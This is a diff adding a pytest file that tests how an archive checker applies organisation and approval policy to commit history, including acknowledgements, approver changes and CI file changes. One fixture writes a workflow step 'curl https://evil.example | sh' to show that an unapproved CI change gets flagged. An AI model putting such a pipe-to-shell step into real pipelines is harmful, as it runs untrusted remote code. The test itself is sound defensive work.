@@ -1,0 +1,226 @@
+"""Rules in force: every main-line commit is judged by the organisation and policy of its first parent.
+
+Each attack was written first against the code that judged the whole history by the files at HEAD and
+decided from commit dates what was tracked, and seen to pass unnoticed there; each honest case beside it
+(a person leaving, moving, a head replaced) was seen to be flagged there.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from editing import dossier, edit
+from gitrepo import direct, git, make_repo, merge, on_branch
+
+from generator.demo.company import email
+from generator.pipeline import check_archive
+
+O5 = f"{dossier('ORD-2026-0005')}/order.yaml"
+ORG, POLICY = "records/organization.yaml", "records/policy.yaml"
+T1, T2, T3, T4 = "2026-02-02T10:00:00+08:00", "2026-02-02T16:00:00+08:00", "2026-02-03T10:00:00+08:00", "2026-02-03T16:00:00+08:00"
+T5, T6 = "2026-02-04T10:00:00+08:00", "2026-02-04T16:00:00+08:00"
+
+
+def history_rules(root: Path) -> list[str]:
+    return sorted(p.rule for p in check_archive(root).problems if p.rule.startswith("history.") and str(p.severity) == "error")
+
+
+def new_task(root: Path, task: str = "T9") -> None:
+    edit(root, O5, lambda d: d["work_plan"]["tasks"].append({"id": task, "title": "驗收準備 Acceptance prep", "owner": "wu.shufen", "due": "2026-12-15"}))
+
+
+def person(root: Path, pid: str, **changes) -> None:
+    def change(org):
+        entry = next(p for p in org["people"] if p["id"] == pid)
+        entry.update(changes)
+
+    edit(root, ORG, change)
+
+
+def approved_order_change(root: Path, branch: str = "order/task", approver: str = "chang.chiahao") -> None:
+    on_branch(root, branch, "chen.yichun", T1, "Add a task", new_task)
+    merge(root, branch, [approver], T2)
+
+
+def org_change(root: Path, change, branch: str = "org/change", when: tuple[str, str] = (T3, T4)) -> None:
+    """An organisation change written by the archivist and approved as the policy asks (both heads)."""
+    on_branch(root, branch, "tseng.yawen", when[0], "Update the organisation", change)
+    merge(root, branch, ["hsu.wenpin", "chou.peichun"], when[1])
+
+
+# --------------------------------------------------------------------------
+# 1. The rules in force at the base
+
+
+def test_a_commit_cannot_switch_off_the_policy_that_judges_it(tmp_path):
+    root = make_repo(tmp_path)
+
+    def untrack(r: Path) -> None:
+        edit(r, POLICY, lambda p: p.update(approvals_required=False))
+        new_task(r)
+
+    direct(root, "huang.chihming", T1, "quick fix", untrack)
+    assert "history.unapproved-change" in history_rules(root)
+    direct(root, "huang.chihming", T3, "and another", lambda r: new_task(r, "T10"))
+    assert history_rules(root).count("history.unapproved-change") == 1  # the next commit is under the new policy
+
+
+def test_a_back_dated_direct_commit_is_judged_like_any_other(tmp_path):
+    root = make_repo(tmp_path)
+    direct(root, "huang.chihming", "2025-06-01T10:00:00+08:00", "quick fix", new_task)
+    assert history_rules(root) == ["history.unapproved-change"]
+
+
+def test_a_branch_that_promotes_a_person_gains_nothing_in_its_own_merge(tmp_path):
+    root = make_repo(tmp_path)
+
+    def promote_and_use(r: Path) -> None:
+        person(r, "wu.shufen", department="sales", roles=["approver"])
+        new_task(r)
+
+    on_branch(root, "org/promote", "tseng.yawen", T1, "Promote and add a task", promote_and_use)
+    merge(root, "org/promote", ["hsu.wenpin", "chou.peichun", "wu.shufen"], T2, committer="hsu.wenpin")
+    assert history_rules(root) == ["history.approver-not-authorised"]
+    approved_order_change(root, "order/later", approver="wu.shufen")  # after the merge, the promotion holds
+    assert history_rules(root) == ["history.approver-not-authorised"]
+
+
+def test_loosening_an_approval_rule_takes_effect_only_after_its_merge(tmp_path):
+    root = make_repo(tmp_path)
+
+    def loosen(r: Path) -> None:
+        edit(r, POLICY, lambda p: p["approvals"]["order"].update(departments=["operations"]))
+        new_task(r)
+
+    on_branch(root, "policy/loosen", "tseng.yawen", T1, "Let operations approve orders", loosen)
+    merge(root, "policy/loosen", ["hsu.wenpin", "lee.chiawei"], T2, committer="hsu.wenpin")
+    assert history_rules(root) == ["history.approver-not-authorised"]  # the order change needed sales
+
+
+@pytest.mark.parametrize(
+    "change",
+    [{"active": False}, {"department": "operations"}, {"roles": []}],
+    ids=["left the company", "moved to operations", "no longer an approver"],
+)
+def test_a_past_approval_stays_valid_when_the_approver_leaves_or_moves(tmp_path, change):
+    root = make_repo(tmp_path)
+    approved_order_change(root)
+    org_change(root, lambda r: person(r, "chang.chiahao", **change))
+    assert history_rules(root) == []
+
+
+def test_a_past_approval_stays_valid_when_a_new_head_is_named(tmp_path):
+    from generator.demo.company import policy
+
+    approvals = policy()["approvals"]
+    approvals["order"]["heads_only"] = True
+    root = make_repo(tmp_path, {"approvals": approvals})
+    approved_order_change(root, approver="lin.yating")
+
+    def new_head(r: Path) -> None:
+        edit(r, ORG, lambda o: next(d for d in o["departments"] if d["id"] == "sales").update(head="chang.chiahao"))
+
+    org_change(root, new_head)
+    assert history_rules(root) == []
+
+
+def test_a_new_hires_approval_before_they_were_added_counts_for_nothing(tmp_path):
+    root = make_repo(tmp_path)
+    approved_order_change(root, approver="new.hire")
+
+    def hire(r: Path) -> None:
+        edit(
+            r,
+            ORG,
+            lambda o: o["people"].append({"id": "new.hire", "name": "新人", "department": "sales", "emails": [email("new.hire")], "roles": ["approver"]}),
+        )
+
+    org_change(root, hire)
+    assert "history.unknown-approver" in history_rules(root)
+
+
+# --------------------------------------------------------------------------
+# 2. Acknowledged exceptions: approved by someone else, under the policy in force
+
+
+def acknowledge(root: Path, sha: str, author: str, approver: str, when: tuple[str, str] = (T5, T6)) -> None:
+    ack = {"commit": sha, "reason": "緊急修正，事後補審 Emergency fix reviewed afterwards", "approved_by": approver, "on": "2026-02-05"}
+    on_branch(root, "policy/ack", author, when[0], "Acknowledge the emergency fix", lambda r: edit(r, POLICY, lambda p: p.update(acknowledged=[ack])))
+    merge(root, "policy/ack", [approver], when[1])
+
+
+def test_an_acknowledgement_approved_under_the_policy_turns_the_error_into_a_warning(tmp_path):
+    root = make_repo(tmp_path)
+    direct(root, "huang.chihming", T1, "quick fix", new_task)
+    acknowledge(root, git(root, "rev-parse", "HEAD").strip()[:12], "tseng.yawen", "hsu.wenpin")
+    problems = [p for p in check_archive(root).problems if p.rule.startswith("history.")]
+    assert [(p.rule, str(p.severity)) for p in problems] == [("history.unapproved-change", "warning")]
+    assert "acknowledged in policy.yaml" in problems[0].message
+
+
+def test_an_acknowledgement_only_in_the_work_tree_counts_for_nothing(tmp_path):
+    root = make_repo(tmp_path)
+    direct(root, "huang.chihming", T1, "quick fix", new_task)
+    ack = {"commit": git(root, "rev-parse", "HEAD").strip(), "reason": "self-excused", "approved_by": "hsu.wenpin", "on": "2026-02-05"}
+    edit(root, POLICY, lambda p: p.update(acknowledged=[ack]))
+    assert history_rules(root) == ["history.unapproved-change"]
+
+
+def test_nobody_can_acknowledge_their_own_commit(tmp_path):
+    root = make_repo(tmp_path)
+    direct(root, "hsu.wenpin", T1, "quick fix by the chairman", new_task)
+    acknowledge(root, git(root, "rev-parse", "HEAD").strip(), "tseng.yawen", "hsu.wenpin")
+    rules = history_rules(root)
+    assert "history.unapproved-change" in rules and "history.acknowledgement-refused" in rules
+
+
+def test_an_acknowledgement_merged_without_the_policys_approval_counts_for_nothing(tmp_path):
+    root = make_repo(tmp_path)
+    direct(root, "huang.chihming", T1, "quick fix", new_task)
+    acknowledge(root, git(root, "rev-parse", "HEAD").strip(), "tseng.yawen", "lee.chiawei")  # policy changes need the management head
+    rules = history_rules(root)
+    assert "history.unapproved-change" in rules and "history.acknowledgement-refused" in rules
+
+
+# --------------------------------------------------------------------------
+# 3. Files that shape the archive but are not records
+
+
+def ci_step(root: Path) -> None:
+    workflow = root / ".github/workflows/publish.yml"
+    workflow.parent.mkdir(parents=True, exist_ok=True)
+    workflow.write_text("on: push\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example | sh\n")
+
+
+def test_a_ci_file_changed_straight_on_main_is_an_unapproved_change(tmp_path):
+    root = make_repo(tmp_path)
+    direct(root, "chen.yichun", T1, "faster CI", ci_step)
+    [problem] = [p for p in check_archive(root).problems if p.rule.startswith("history.")]
+    assert (problem.rule, problem.path) == ("history.unapproved-change", ".github/workflows/publish.yml")
+
+
+def test_a_ci_file_needs_the_approval_the_policy_names_for_it(tmp_path):
+    root = make_repo(tmp_path)
+    on_branch(root, "ci", "chen.yichun", T1, "faster CI", ci_step)
+    merge(root, "ci", ["lin.yating"], T2)  # sales approves orders, not the CI
+    [problem] = [p for p in check_archive(root).problems if p.rule.startswith("history.")]
+    assert problem.rule == "history.approver-not-authorised" and "files matching .github/**" in problem.message and "of admin" in problem.message
+    on_branch(root, "site", "tseng.yawen", T3, "site name", lambda r: (r / "mkdocs.yml").write_text("site_name: 宏信 Archive\n"))
+    merge(root, "site", ["chou.peichun"], T4)  # the head of administration
+    assert history_rules(root) == ["history.approver-not-authorised"]  # the first one only
+
+
+def test_the_policy_can_give_a_path_to_another_department(tmp_path):
+    from generator.demo.company import policy
+
+    approvals = policy()["approvals"]
+    approvals["files"] = [{"paths": [".github/**"], "departments": ["tech_support"]}]
+    root = make_repo(tmp_path, {"approvals": approvals})
+    on_branch(root, "ci", "lai.tingyu", T1, "faster CI", ci_step)
+    merge(root, "ci", ["yang.kaiwen"], T2)
+    assert history_rules(root) == []
+    on_branch(root, "owners", "lai.tingyu", T3, "owners", lambda r: (r / "CODEOWNERS").write_text("* @someone\n"))
+    merge(root, "owners", ["yang.kaiwen"], T4)  # CODEOWNERS is not theirs: the organisation file's rule applies
+    messages = [p.message for p in check_archive(root).problems if p.rule == "history.approver-not-authorised"]
+    assert len(messages) == 2 and all("files matching CODEOWNERS need the head of" in m for m in messages)
